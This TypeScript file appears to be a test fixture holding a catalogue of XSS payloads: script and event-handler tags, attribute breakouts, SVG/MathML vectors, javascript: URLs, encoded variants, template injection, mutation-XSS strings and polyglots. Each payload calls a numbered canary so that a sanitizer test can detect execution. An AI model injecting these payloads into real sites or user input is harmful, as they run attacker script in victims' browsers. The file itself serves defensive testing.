/**
 * What someone would write who wants a script to run in another's browser. Written for this house, by the classes of OWASP's
 * XSS Filter Evasion Cheat Sheet, its DOM Clobbering and CSS sheets, and what is published on mutation XSS (Heiderich and
 * others, 2013; Bentkowski, 2019). `RUN` stands for a call that tells the test it was run.
 */

export type Payload = {
  readonly kind: Kind;
  readonly text: string;
  /** Where a field of people's own words refuses it: it has more than one line, or is too long for one; or letters nobody sees. */
  readonly refused?: "by lines" | "everywhere";
};

const byKind = {
  /** Elements that run something by being there. */
  elements: [
    "<script>RUN</script>",
    "<ScRiPt>RUN</sCrIpT>",
    "<script src=data:text/javascript,RUN></script>",
    "<script type=module>RUN</script>",
    "<script/x>RUN</script >",
    "</title><script>RUN</script>",
    "</textarea><script>RUN</script>",
    "<img src=x onerror=RUN>",
    "<img src=/favicon.svg onload=RUN>",
    "<img/src=x/onerror=RUN>",
    "<IMG SRC=x ONERROR=RUN>",
    "<image src=x onerror=RUN>",
    "<video><source onerror=RUN></video>",
    "<video src=x onerror=RUN></video>",
    "<audio src=x onerror=RUN></audio>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN></select>",
    "<details open ontoggle=RUN>x</details>",
    "<body onload=RUN>",
    "<marquee onstart=RUN>x</marquee>",
    "<iframe onload=RUN></iframe>",
    '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    "<object data=x onerror=RUN></object>",
    "<embed src=/favicon.svg onload=RUN>",
    "<style onload=RUN></style>",
    "<link rel=stylesheet href=x onerror=RUN>",
    '<meta http-equiv=refresh content="0;url=javascript:RUN">',
    "<base href=javascript:RUN//>",
    "<dialog open onfocusin=RUN><button autofocus>x</button></dialog>",
    "<form><button formaction=javascript:RUN autofocus onfocus=RUN>x</button></form>",
  ],
  /** Out of an attribute's value, and into another attribute. */
  attributes: [
    '" onfocus=RUN autofocus x="',
    "' onfocus=RUN autofocus x='",
    '"><img src=x onerror=RUN>',
    "'><img src=x onerror=RUN>",
    '"/><script>RUN</script>',
    "` onerror=RUN `",
    '" style="animation-name:x" onanimationstart="RUN',
    '" onpointerrawupdate="RUN" x="',
    "x onerror=RUN y=",
    '" accesskey=x onclick="RUN',
    '"\tonfocus=RUN\tautofocus\tx="',
  ],
  /** SVG and MathML, which have rules of their own. */
  svg: [
    "<svg onload=RUN>",
    "<svg/onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><script href=data:,RUN /></svg>",
    '<svg><a href="javascript:RUN"><text y=20>x</text></a></svg>',
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><set onbegin=RUN attributeName=x>",
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=RUN /></svg>#x">',
    "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
    "<svg><style><img src=x onerror=RUN></style></svg>",
    '<math href="javascript:RUN">x</math>',
    "<math><mtext><img src=x onerror=RUN></mtext></math>",
  ],
  /** Addresses that are a program. */
  addresses: [
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    "java\tscript:RUN",
    "javascript&colon;RUN",
    "javascript://example.org/%0aRUN",
    "javascript:void(RUN)//https://example.org",
    "data:text/html,<script>parent.RUN</script>",
    "data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=RUN>",
    "vbscript:RUN",
    "blob:https://example.org/RUN",
    "//example.org/x.js",
    "https:javascript:RUN",
    'https://example.org" onclick="RUN',
    "https://example.org/<script>RUN</script>",
    "https://example.org/?x='-RUN-'",
    "https://example.org/#javascript:RUN",
    "feed:javascript:RUN",
    '<a href="javascript:RUN">x</a>',
    '<a href="&#106;avascript:RUN">x</a>',
    "[x](javascript:RUN)",
    '![x](x"onerror="RUN)',
  ],
  /** The same in other letters. */
  letters: [
    "&lt;script&gt;RUN&lt;/script&gt;",
    "&#60;script&#62;RUN&#60;/script&#62;",
    "&#x3c;img src=x onerror=RUN&#x3e;",
    "%3Cscript%3ERUN%3C/script%3E",
    "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=RUN\\x3e",
    "＜script＞RUN＜/script＞",
    "﹤img src=x onerror=RUN﹥",
    "<ımg src=x onerror=RUN>",
    "<ſcript>RUN</ſcript>",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "<img src=x onerror=&#82;&#85;&#78;;RUN>",
    "<scr\u0000ipt>RUN</scr\u0000ipt>",
    "<scr\u200bipt>RUN</scr\u200bipt>",
    "\u202e<script>RUN</script>",
    "<img\ufeff src=x onerror=RUN>",
  ],
  /** For those who fill in templates, or read text as a program. */
  templates: [
    "{{constructor.constructor('RUN')()}}",
    "{{RUN}}",
    "${RUN}",
    "#{RUN}",
    "<%= RUN %>",
    "%{RUN}",
    "[[${RUN}]]",
    "{%raw%}<script>RUN</script>{%endraw%}",
    "';RUN;//",
    '";RUN;//',
    "\\';RUN;//",
    "</script><script>RUN</script>",
    '{"__proto__":{"onerror":"RUN","innerHTML":"<img src=x onerror=RUN>"}}',
    '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=RUN>"}}',
    "|||| <img src=x onerror=RUN> ||||",
  ],
  /** Style sheets, which can fetch, and once could run. */
  styles: [
    "<style>@import 'https://example.org/x.css';</style>",
    "<style>*{background:url(https://example.org/x)}</style>",
    "<div style=\"background:url('javascript:RUN')\">x</div>",
    "<div style=width:expression(RUN)>x</div>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=RUN>x</b>",
    "}</style><script>RUN</script>",
    '<link rel=stylesheet href="https://example.org/x.css">',
  ],
  /** What a browser reads otherwise the second time than the first. */
  mutations: [
    '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
    "<template><img src=x onerror=RUN></template>",
    '<xmp><p title="</xmp><img src=x onerror=RUN>">',
    "<!--><img src=x onerror=RUN>-->",
    '<!--<img src="--><img src=x onerror=RUN>">',
    "<![CDATA[<img src=x onerror=RUN>]]>",
    '<?xml version="1.0"?><img src=x onerror=RUN>',
    '<textarea><img title="</textarea><img src=x onerror=RUN>">',
    "<a id=canary name=canary><a id=canary href=x>x</a>",
    "<img name=body><img name=cookie><form id=canary>x</form>",
  ],
  /** More of them at once, and over more lines than one. */
  together: [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=RUN )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=RUN//>",
    "'\">--></style></title></script><svg onload=RUN>",
    "<x onpointerenter=RUN style=position:fixed;inset:0>",
  ],
  lines: ["<img\nsrc=x\nonerror=RUN\n>", "javascript:\nRUN", `<b>${"x".repeat(200)}</b><img src=x onerror=RUN>`],
} as const satisfies Readonly<Record<string, readonly string[]>>;

export type Kind = keyof typeof byKind;

/** Letters that nobody sees, and those that turn the direction of writing, are taken nowhere. */
// oxlint-disable-next-line no-control-regex -- it is them that are written here
const unseen = /[\u0000\u200b\u202e\ufeff]/;

const refusedIn = (text: string): Pick<Payload, "refused"> =>
  unseen.test(text)
    ? { refused: "everywhere" }
    : /[\n\t]/.test(text) || text.length > 200
      ? { refused: "by lines" }
      : {};

/** Every payload, the one with the number n calling `canary(n)`. */
export const payloads: readonly Payload[] = Object.entries(byKind)
  .flatMap(([kind, texts]) => texts.map((text) => ({ kind: kind as Kind, text, ...refusedIn(text) })))
  .map(({ text, ...payload }, n) => ({ ...payload, text: text.replaceAll("RUN", `canary(${n})`) }));
